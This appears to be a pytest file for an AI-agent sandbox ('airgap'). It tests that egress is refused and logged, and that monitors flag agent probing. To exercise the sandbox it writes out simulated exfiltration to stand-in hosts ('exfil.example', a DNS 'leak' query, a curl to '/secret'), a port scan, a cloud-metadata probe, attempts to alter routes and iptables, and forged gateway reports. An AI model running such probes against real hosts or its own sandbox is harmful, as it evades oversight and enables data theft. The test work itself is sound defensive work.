"""Every connection attempt is seen: raw IPs on many ports, a v6 literal, UDP, a port scan of a world host,
10,000 attempts in a row and a flood of silent connections; each one logged with its destination, none
reaching anything, the sandbox healthy afterwards.

Network rule: from inside a sandbox whose only interface is lo, these tests dial only the documentation
ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) and world hostnames; a sniffer on the
host's own interfaces checks that not one packet to those ranges appears there."""
from __future__ import annotations

import ipaddress
import json
import socket
import subprocess
import threading

import pytest

from airgap.sandbox.runtime.docker import DockerRuntime

pytestmark = pytest.mark.docker

DOC_NETS = [ipaddress.ip_network(n) for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")]
REFUSED = "airgap: no network"

CONNECT = r"""
import json, socket, sys
out = []
for host, port, payload in json.loads(sys.argv[1]):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.sendall(payload.encode("latin-1"))
        s.settimeout(5)
        got = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            got += chunk
        out.append(got.decode("latin-1"))
        s.close()
    except OSError as e:
        out.append(f"ERR {e}")
print(json.dumps(out))
"""


def host_addresses() -> set[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """The host's own addresses (a test machine may itself sit in a documentation range, e.g. 192.0.2.2)."""
    out = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, check=True).stdout
    return {ipaddress.ip_address(a["local"]) for link in json.loads(out) for a in link.get("addr_info", [])}


class Sniffer:
    """Counts packets on the host's interfaces (all of them, AF_PACKET) whose destination is in a documentation
    range and is not one of the host's own addresses (its own traffic to itself is not the sandbox's)."""

    def __init__(self):
        self.own = host_addresses()
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))  # ETH_P_ALL
        self.sock.settimeout(0.2)
        self.seen: list[tuple[str, str]] = []
        self.packets = 0
        self._stop = False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop:
            try:
                data, (iface, proto, *_rest) = self.sock.recvfrom(65535)
            except OSError:
                continue
            self.packets += 1
            dst = None
            if proto == 0x0800 and len(data) >= 20:
                dst = ipaddress.ip_address(data[16:20])
            elif proto == 0x86DD and len(data) >= 40:
                dst = ipaddress.ip_address(data[24:40])
            if dst is not None and dst not in self.own and any(dst in net for net in DOC_NETS):
                self.seen.append((iface, str(dst)))

    def stop(self):
        self._stop = True
        self._thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def sniffer():
    """The host-side packet check, when this process may open an AF_PACKET socket (root); None otherwise: the
    other tests still run, and the packet test fails saying why."""
    try:
        s = Sniffer()
    except PermissionError:
        yield None
        return
    yield s
    s.stop()


def attempts(sb, proto: str | None = None) -> list[dict]:
    return [e for e in sb.events if e["type"] == "egress_attempt" and "dst_port" in e
            and (proto is None or e["proto"] == proto)]


def run_connects(sb, targets: list[tuple[str, int, str]], timeout: float = 120) -> list[str]:
    r = sb.exec(["python3", "-c", CONNECT, json.dumps(targets)], timeout=timeout)
    assert r.exit_code == 0, r.stderr
    return json.loads(r.stdout)


def test_interception_is_on_and_its_capabilities_are_gone(sniffer, events_sandbox):
    sb = events_sandbox
    assert sb.intercept, sb.intercept_error
    meta, _ = sb._call({"op": "ping"})
    for cap in (8, 12):  # SETPCAP, NET_ADMIN: gone from the init's effective and bounding sets
        assert not meta["cap_eff"] >> cap & 1 and not meta["cap_bnd"] >> cap & 1, meta
    r = sb.exec("ls /sys/class/net; ip route del local 0.0.0.0/0 dev lo table local 2>&1; "
                "echo '*nat' | iptables-restore 2>&1; echo rc=$?")
    assert r.stdout.split()[0] == "lo" and r.stdout.split()[1] != "lo"  # lo is the only interface
    assert "Operation not permitted" in r.stdout and "rc=0" not in r.stdout, r.stdout


def test_raw_ip_connects_on_many_ports_are_logged_and_refused(sniffer, events_sandbox):
    sb = events_sandbox
    targets = [(ip, port, "hello\n") for ip in ("192.0.2.10", "198.51.100.7", "203.0.113.99")
               for port in (21, 22, 25, 80, 443, 3306, 4444, 5432, 6379, 8080, 65535)]
    replies = run_connects(sb, targets)
    assert all(REFUSED in r for r in replies), replies
    seen = {(e["dst_ip"], e["dst_port"]): e for e in attempts(sb, "tcp")}
    assert set(seen) == {(ip, port) for ip, port, _ in targets}
    assert {e["action"] for e in seen.values()} == {"closed"}
    assert {e["first_bytes"] for e in seen.values()} == {b"hello\n".hex()}


def test_first_bytes_shapes_http_tls_ssh_and_a_v6_literal(sniffer, events_sandbox):
    sb = events_sandbox
    tls = ("import socket, ssl; s = socket.create_connection(('198.51.100.20', 8443), timeout=5); "
           "ctx = ssl.create_default_context()\ntry: ctx.wrap_socket(s, server_hostname='exfil.example')\n"
           "except ssl.SSLError as e: print('TLS', e.reason)")
    r = sb.exec(f"curl -sS -m 5 'http://192.0.2.1:8080/secret?x=1'; python3 -c \"{tls}\"")
    assert REFUSED in r.stdout and "TLS TLSV1_ALERT_ACCESS_DENIED" in r.stdout, r.stdout + r.stderr
    replies = run_connects(sb, [("2001:db8::22", 22, "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
                                ("::ffff:198.51.100.66", 6000, "mapped\n")])  # an IPv4-mapped v6 literal is v4
    assert REFUSED in replies[0] and "[2001:db8::22]:22" in replies[0]
    assert REFUSED in replies[1] and "198.51.100.66:6000" in replies[1]
    by_port = {e["dst_port"]: e for e in attempts(sb, "tcp")}
    http, tls_ev, ssh = by_port[8080], by_port[8443], by_port[22]
    assert (http["dst_ip"], http["shape"], http["request_line"]) == ("192.0.2.1", "http", "GET /secret?x=1 HTTP/1.1")
    assert (tls_ev["shape"], tls_ev["sni"]) == ("tls", "exfil.example")
    assert (ssh["family"], ssh["dst_ip"], ssh["shape"]) == (6, "2001:db8::22", "ssh")
    assert ssh["banner"] == "SSH-2.0-OpenSSH_9.2p1 Debian-2"


def test_udp_datagrams_are_logged(sniffer, events_sandbox):
    sb = events_sandbox
    send = r"""
import socket, struct
query = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p for p in b"leak.exfil.example".split(b".")) + b"\0" + struct.pack("!HH", 16, 1)
for family, addr, data in ((socket.AF_INET, ("192.0.2.53", 53), query),
                           (socket.AF_INET6, ("2001:db8::443", 443), b"\xc0\x00\x00\x00\x01" + bytes(40)),
                           (socket.AF_INET, ("203.0.113.7", 9999), b"ping")):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.sendto(data, addr)
    if addr[1] == 53:  # an outside resolver answers REFUSED at once, from its own address
        s.settimeout(5)
        reply, source = s.recvfrom(512)
        print(source[0], source[1], reply[:2] == query[:2], reply[3] & 15)
"""
    r = sb.exec(["python3", "-c", send])
    assert r.exit_code == 0, r.stderr
    assert r.stdout.split() == ["192.0.2.53", "53", "True", "5"], r.stdout
    assert sb.sync_reports()
    udp = {e["dst_port"]: e for e in attempts(sb, "udp")}
    assert set(udp) == {53, 443, 9999}
    assert (udp[53]["dst_ip"], udp[53]["shape"], udp[53]["qname"]) == ("192.0.2.53", "dns", "leak.exfil.example")
    assert (udp[53]["action"], udp[443]["action"], udp[9999]["action"]) == ("refused", "dropped", "dropped")
    assert (udp[443]["dst_ip"], udp[443]["shape"], udp[443]["quic_version"]) == ("2001:db8::443", "quic", "00000001")
    assert (udp[9999]["dst_ip"], udp[9999]["first_bytes"]) == ("203.0.113.7", b"ping".hex())


def test_port_scan_of_a_world_host(sniffer, events_sandbox):
    """A world host answers on its served ports (80, 443: through the gateway) and nowhere else; each probe of
    another port is logged with the host's name."""
    sb = events_sandbox
    scan = r"""
import json, socket
ip = socket.gethostbyname("docs.python.org")
open_ports = []
for port in range(1, 1025):
    s = socket.create_connection((ip, port), timeout=5)
    s.sendall(b"GET / HTTP/1.1\r\nHost: docs.python.org\r\nConnection: close\r\n\r\n")
    reply = b""
    while chunk := s.recv(4096):
        reply += chunk
    if reply.startswith(b"HTTP/1.1 200"):
        open_ports.append(port)
    s.close()
print(json.dumps([ip, open_ports]))
"""
    r = sb.exec(["python3", "-c", scan], timeout=120)
    ip, open_ports = json.loads(r.stdout)
    assert ipaddress.ip_address(ip) in ipaddress.ip_network("198.18.0.0/15")
    assert open_ports == [80]  # 443 speaks TLS, so a plain GET there is not answered 200
    logged = attempts(sb, "tcp")
    assert {e["dst_port"] for e in logged} == set(range(1, 1025)) - {80, 443}
    assert {(e["host"], e["dst_ip"], e["shape"]) for e in logged} == {("docs.python.org", ip, "http")}
    assert [e["url"] for e in sb.events if e["type"] == "http"] == ["http://docs.python.org/"]


def _init_fds(sb) -> int:
    pid = sb._call({"op": "ping"})[0]["pid"]
    out = DockerRuntime().exec(sb.container_id, ["sh", "-c", f"ls /proc/{pid}/fd | wc -l"], user="0:0", timeout=30)
    return int(out.stdout)


def _sysctl(sb, name: str) -> int:
    out = DockerRuntime().exec(sb.container_id, ["cat", f"/proc/sys/{name}"], user="0:0", timeout=30)
    return int(out.stdout)


def _conntrack_count(sb) -> int:
    return _sysctl(sb, "net/netfilter/nf_conntrack_count")


def test_ten_thousand_attempts_and_a_silent_flood_leave_the_sandbox_healthy(sniffer, events_sandbox):
    sb = events_sandbox
    fds_before = _init_fds(sb)
    many = r"""
import socket
refused = 0
for i in range(10000):
    s = socket.create_connection((f"203.0.113.{i % 250 + 1}", 1024 + i % 60000), timeout=5)
    s.sendall(b"x\n")
    refused += b"airgap: no network" in s.recv(4096)
    s.close()
print(refused)
"""
    r = sb.exec(["python3", "-c", many], timeout=300)
    assert r.stdout.strip() == "10000", r.stdout + r.stderr
    logged = attempts(sb, "tcp")
    assert len(logged) == 10000 and len({(e["dst_ip"], e["dst_port"]) for e in logged}) == 10000
    # 800 connections that never say a word, all open at once: the init may not hold them (its fds are bounded)
    silent = r"""
import socket
conns = [socket.create_connection(("198.51.100.9", 7000 + i), timeout=5) for i in range(800)]
closed = 0
for c in conns:
    c.settimeout(5)
    closed += REFUSED in c.recv(4096)
print(closed)
""".replace("REFUSED", repr(REFUSED.encode()))
    r = sb.exec(["python3", "-c", silent], timeout=120)
    assert r.stdout.strip() == "800", r.stdout + r.stderr
    flood = [e for e in attempts(sb, "tcp") if e["dst_ip"] == "198.51.100.9"]
    assert len(flood) == 800 and any(e["crowded"] for e in flood)
    # and a UDP flood: every datagram reported, or counted by the kernel as lost before the init could read it
    tracked_before_udp = _conntrack_count(sb)
    r = sb.exec(["python3", "-c", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 "for i in range(5000):\n    s.sendto(b'flood', ('192.0.2.99', 1000 + i))\n"
                 "s.sendto(b'last', ('192.0.2.98', 1))"])
    assert r.exit_code == 0, r.stderr
    assert sb.sync_reports(timeout=30)
    udp = attempts(sb, "udp")
    flood = [e for e in udp if e["dst_ip"] == "192.0.2.99"]
    lost = max(e["udp_lost"] for e in udp)
    assert len(flood) + lost == 5000 and len(flood) >= 4000, (len(flood), lost)
    tracked_after_udp = _conntrack_count(sb)
    assert _init_fds(sb) <= fds_before + 2
    # The kernel's connection table: UDP is not tracked at all, and the closed TCP attempts expire after 1 s, not
    # 2 minutes (a full table would drop new connections unseen; expired entries are evicted first). When the
    # kernel's garbage collector reaps them varies (seconds to a minute), so the test checks the settings.
    assert tracked_after_udp - tracked_before_udp < 100  # the 5,000 datagrams added no entries
    for state in ("time_wait", "close", "fin_wait", "close_wait", "last_ack"):
        assert _sysctl(sb, f"net/netfilter/nf_conntrack_tcp_timeout_{state}") == 1
    assert sb.alive()
    r = sb.exec("curl -sS -m 5 http://docs.python.org/after")
    assert r.stdout == "GET http://docs.python.org/after body=", r.stdout + r.stderr


def test_forged_reports_are_refused_and_the_token_is_not_the_agents(sniffer, events_sandbox):
    sb = events_sandbox
    forge = ("import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/airgap/gw.sock'); "
             "s.sendall(b'REPORT 0123456789abcdef\\n{\"seq\": 99999, \"dst_ip\": \"192.0.2.250\", \"dst_port\": 1}\\n')"
             "; s.close()")
    r = sb.exec(["python3", "-c", forge])
    assert r.exit_code == 0, r.stderr
    assert not attempts(sb)
    socket_events = [e for e in sb.events if e["type"] == "egress_attempt" and e.get("via") == "socket"]
    assert socket_events and socket_events[0]["preamble"] == "REPORT (wrong token)"
    env_init = sb.exec("env").stdout
    env_docker = sb.exec_docker("env").stdout
    assert "AIRGAP_REPORT_TOKEN" not in env_init
    # `docker exec` inherits the container's environment: the runtime blanks the token there
    assert [line for line in env_docker.splitlines() if line.startswith("AIRGAP_REPORT_TOKEN")] == ["AIRGAP_REPORT_TOKEN="]


def test_attempts_land_in_an_episode_log_typed_and_flagged(sniffer, shared_sandbox, tmp_path):
    """The real events, through the real episode log (schema-checked) and the egress and probing monitors."""
    from airgap.envs.logs import EpisodeLog, read_log, verify
    from airgap.envs.monitors import Context, scan

    log = EpisodeLog(tmp_path / "e.jsonl", {"env_id": "airgap/Test-v0", "task_id": "t", "task_version": 1, "seed": 0,
                                            "agent": "scripted"})
    log.append("reset", observation="go", info={}, seed=0, options={}, tools=[])
    cmd = "python3 /workspace/probe.py"
    log.append("action", step=1, action={"tool": "shell", "args": {"cmd": cmd}}, tool="shell", args={"cmd": cmd})
    shared_sandbox.set_sink(log.sink)
    try:
        shared_sandbox.write_file("/workspace/probe.py", CONNECT)  # run by name: its source is not in the command
        targets = [["198.51.100.7", 4444, "hello\n"], ["169.254.169.254", 80, "GET / HTTP/1.1\r\n\r\n"]]
        targets += [["docs.python.org", port, "SSH-2.0-x\r\n"] for port in (22, 2222, 5432, 6379, 8080)]
        r = shared_sandbox.exec(["python3", "/workspace/probe.py", json.dumps(targets)])
        assert r.exit_code == 0, r.stderr
    finally:
        shared_sandbox.set_sink(None)
    log.append("observation", step=1, observation=r.stdout, reward=0.0, terminated=True, truncated=False, info={})
    log.close(reward=0.0, terminated=True, truncated=False, steps=1)
    assert verify(tmp_path / "e.jsonl").ok  # every event validates against the log schema
    _header, events = read_log(tmp_path / "e.jsonl")
    logged = [e for e in events if e["type"] == "sandbox.egress_attempt"]
    assert len(logged) == 7 and all(e["step"] == 1 for e in logged)
    flags = scan(Context(world_hosts={"docs.python.org", "mail.airgap"}), events, ["egress", "probing"])
    by_monitor = {f.monitor: f for f in flags if f.severity != "critical"}
    assert "tcp connection to 198.51.100.7:4444 [bytes]: an address outside the world" in by_monitor["egress"].message
    assert "docs.python.org (198.18." in by_monitor["egress"].message  # a world host on a port it does not serve
    assert any(f.severity == "critical" and "169.254.169.254" in f.message for f in flags)  # cloud metadata
    assert "a sweep" in by_monitor["probing"].message


def test_host_interfaces_saw_no_packet_to_the_documentation_ranges(sniffer):
    if sniffer is None:
        pytest.fail("the host-side packet check needs CAP_NET_RAW (an AF_PACKET socket on the host's interfaces): "
                    "run this module as root to check that nothing reached the host's interfaces")
    assert sniffer.seen == [], sniffer.seen[:10]
